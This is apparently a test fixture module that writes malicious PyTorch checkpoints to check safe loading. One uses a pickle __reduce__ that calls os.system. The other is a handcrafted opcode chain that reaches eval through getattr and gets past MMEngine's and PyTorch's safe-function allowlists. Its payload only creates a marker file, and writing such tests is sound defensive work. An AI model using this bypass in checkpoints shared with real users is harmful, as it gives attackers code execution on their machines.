"""Checkpoints that run code when they are loaded without care."""
import io
import os
import zipfile
from pathlib import Path

import torch


class RunsCode:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple:
        return os.system, (self.command, )


def write_hostile(path: Path, state_dict: dict) -> Path:
    """Write a checkpoint that creates a file next to it when it is loaded.

    Returns:
        Path: The file that must not appear.
    """
    mark = path.with_suffix('.was_run')
    torch.save(dict(state_dict=state_dict, x=RunsCode(f'touch {mark}')), path)
    return mark


def write_getattr(path: Path) -> Path:
    """Write a checkpoint that reaches ``eval`` through ``getattr``.

    All that it names is in MMEngine's list of safe functions and PyTorch's:
    getattr, HistoryBuffer, _rebuild_from_type_v2, OrderedDict.
    """
    mark = path.with_suffix('.was_run')

    def name(module: str, attribute: str) -> bytes:
        return f'c{module}\n{attribute}\n'.encode()

    def text(value: str) -> bytes:
        data = value.encode()
        return b'X' + len(data).to_bytes(4, 'little') + data

    def call(func: bytes, *args: bytes) -> bytes:
        return func + b'(' + b''.join(args) + b'tR'

    get = name('__builtin__', 'getattr')
    rebuild = name('torch._tensor', '_rebuild_from_type_v2')
    init = call(get, name('mmengine.logging.history_buffer', 'HistoryBuffer'),
                text('__init__'))
    builtins = call(get, init, text('__builtins__'))
    evaluate = call(rebuild, call(get, builtins, text('__getitem__')),
                    call(get, get, text('__class__')),
                    b'(' + text('eval') + b't', b'N')
    code = f"__import__('os').system('touch {mark}')"
    run = call(rebuild, evaluate, name('collections', 'OrderedDict'),
               b'(' + text(code) + b't', b'N')
    buffer = io.BytesIO()
    torch.save(dict(), buffer)
    with zipfile.ZipFile(buffer) as old, zipfile.ZipFile(path, 'w') as new:
        for item in old.namelist():
            is_pickle = item.endswith('data.pkl')
            new.writestr(
                item,
                b'\x80\x02' + run + b'.' if is_pickle else old.read(item))
    return mark
